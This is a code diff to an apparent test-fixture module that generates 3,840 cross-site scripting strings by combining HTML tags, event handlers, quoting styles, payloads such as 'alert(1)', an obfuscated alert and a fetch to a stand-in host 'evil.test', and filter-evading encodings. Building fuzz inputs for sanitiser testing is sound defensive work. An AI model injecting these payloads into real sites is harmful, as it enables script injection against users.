@@ -53,3 +53,37 @@ export const hostileStrings: readonly string[] = [...naughtyStrings, ...ways].fi
 
 /** Those that want to become markup or code. */
 export const markupStrings: readonly string[] = hostileStrings.filter((text) => /<|javascript:|on\w+\s*=/i.test(text));
+
+const tags = [
+  'img src=x',
+  'svg',
+  'iframe srcdoc=x',
+  'video src=x',
+  'input autofocus',
+  'details open',
+  'body',
+  'math',
+  'marquee',
+  'a href=x',
+];
+const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onclick', 'onmouseover'];
+const quotings: readonly ((code: string) => string)[] = [
+  (code) => code,
+  (code) => `"${code}"`,
+  (code) => `'${code}'`,
+  (code) => `\`${code}\``,
+];
+const codes = ['alert(1)', 'javascript:alert(1)', 'top[`al`+`ert`](1)', 'fetch(`//evil.test`)'];
+const encodings: readonly ((text: string) => string)[] = [
+  (text) => text,
+  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
+  (text) => text.replaceAll(/[<>]/g, encodeURIComponent),
+  (text) => text.replace(' ', '/').replace(/on/, 'oN'),
+];
+
+/** Tag × handler × quoting × code × encoding: 3,840 strings. */
+export const generatedStrings: readonly string[] = tags.flatMap((tag) =>
+  handlers.flatMap((handler) =>
+    quotings.flatMap((quote) => codes.flatMap((code) => encodings.map((encode) => encode(`<${tag} ${handler}=${quote(code)}>`)))),
+  ),
+);
